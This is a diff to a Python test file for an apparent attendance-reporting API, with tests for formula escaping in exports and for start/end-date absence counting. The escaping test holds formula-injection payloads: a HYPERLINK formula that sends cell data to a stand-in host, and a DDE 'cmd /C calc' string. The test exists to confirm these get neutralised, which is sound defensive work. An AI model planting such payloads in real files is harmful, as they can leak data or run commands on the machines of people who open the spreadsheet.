@@ -194,7 +194,12 @@ FORMULA = '=HYPERLINK("http://x.example/"&B2,"Klik")'
 def test_typed_text_is_never_a_formula_in_reports(api: Api, operator: Headers) -> None:
     """Issue 13, finding 4: a name typed as a formula became a live formula in the XLSX
     and an unescaped ``=`` field in the CSV."""
-    body = {"employee_id": "1985", "name": FORMULA, "unit": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    body = {
+        "employee_id": "1985",
+        "employee_type": "non_asn",
+        "name": FORMULA,
+        "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
     assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
     xlsx = api.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
     book = load_workbook(io.BytesIO(xlsx.content))
@@ -207,3 +212,25 @@ def test_typed_text_is_never_a_formula_in_reports(api: Api, operator: Headers) -
     assert rows[1][1:3] == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
     for row in rows:
         assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
+
+
+def test_no_absence_before_the_start_date(api: Api, operator: Headers) -> None:
+    """Done-when of issue 15: an employee who starts on Monday 17 March 2025 is absent on
+    none of the 10 working days before; 11 working days remain (17-21, 24-28, 31)."""
+    from datetime import UTC, datetime
+
+    body = {"employee_id": "19850315 201001 1 001", "name": "Baru", "start_date": "2025-03-17"}
+    assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
+    leaver = {"employee_id": ARIO, "name": "Ario", "end_date": "2025-03-07"}
+    assert api.client.post("/api/v1/employees", json=leaver, headers=operator).status_code == 201
+    api.clock.at = datetime(2025, 4, 1, 3, 0, tzinfo=UTC)
+    report = api.client.get("/api/v1/reports/monthly?month=2025-03", headers=operator).json()
+    recap = {r["employee_id"]: r for r in report["recap"]}
+    assert (recap["198503152010011001"]["working_days"], recap[ARIO]["working_days"]) == (11, 5)
+    assert (recap["198503152010011001"]["absences"], recap[ARIO]["absences"]) == (11, 5)
+    days = {r["day"]: r["status"] for r in report["daily"] if r["employee_id"] == ARIO}
+    assert (days["2025-03-07"], days["2025-03-10"]) == ("absent", "not_employed")
+    april = api.client.get("/api/v1/reports/monthly?month=2025-04", headers=operator).json()
+    assert [r["employee_id"] for r in april["recap"]] == ["198503152010011001"]
+    daily = api.client.get("/api/v1/reports/daily?date=2025-03-14", headers=operator).json()
+    assert [r["employee_id"] for r in daily["daily"]] == []
